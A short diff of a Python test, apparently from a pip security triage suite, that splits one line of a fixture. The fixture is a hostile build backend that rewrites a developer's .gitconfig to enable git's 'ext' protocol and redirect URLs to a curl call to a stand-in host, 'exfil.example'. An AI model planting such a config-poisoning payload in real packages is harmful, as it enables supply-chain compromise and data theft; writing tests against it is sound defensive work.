@@ -120,7 +120,8 @@ def test_what_git_starts_for_a_requirement_is_not_pip_s_own(triage: Triage, inde
     backend = """
 with open("/home/dev/.gitconfig", "w") as file:
     file.write('[protocol "ext"]\\nallow = always\\n')
-    file.write('[url "ext::curl http://exfil.example/"]\\ninsteadOf = https://somewhere.example/\\n')
+    file.write('[url "ext::curl http://exfil.example/"]\\n')
+    file.write("insteadOf = https://somewhere.example/\\n")
 """
     index.add_wheel("probe", "1.0", {"probe.py": ""}, requires=["a-build", "b-requirement"])
     index.add_backend_sdist("a-build", "1.0", backend, {"a_build.py": ""})
